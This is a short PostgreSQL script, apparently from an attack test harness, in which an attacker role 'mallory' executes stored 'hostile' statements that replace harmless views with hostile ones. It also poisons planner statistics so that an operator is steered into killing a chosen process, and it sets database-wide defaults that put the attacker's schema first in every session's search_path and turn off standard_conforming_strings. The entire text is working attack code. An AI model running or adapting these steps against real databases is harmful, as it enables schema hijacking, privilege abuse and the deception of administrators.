-- Executed by mallory between executing and asking: the harmless views become hostile ones.
SET client_min_messages = warning;
SET search_path = mallory;
SET mallory.prepares = 'yes';
DO $$ DECLARE a mallory.attack; BEGIN
    FOR a IN SELECT * FROM mallory.attack WHERE hostile IS NOT NULL ORDER BY number LOOP
        BEGIN
            EXECUTE a.hostile;
        EXCEPTION WHEN OTHERS THEN
            UPDATE mallory.attack SET problem = SQLERRM WHERE number = a.number;
        END;
    END LOOP;
END $$;
-- The most common value is the process that an operator is to end.
UPDATE pids SET amount = (SELECT pid FROM attack.sleeper);
ANALYZE pids;
-- Settings of every session that begins now, which the owner of a database may choose.
ALTER DATABASE postgres SET search_path = mallory, public;
ALTER DATABASE postgres SET constraint_exclusion = on;
ALTER DATABASE postgres SET geqo = off;
ALTER DATABASE postgres SET join_collapse_limit = 100;
ALTER DATABASE postgres SET from_collapse_limit = 100;
ALTER DATABASE postgres SET standard_conforming_strings = off;
ALTER DATABASE postgres SET quote_all_identifiers = on;
ALTER DATABASE postgres SET plan_cache_mode = force_custom_plan;
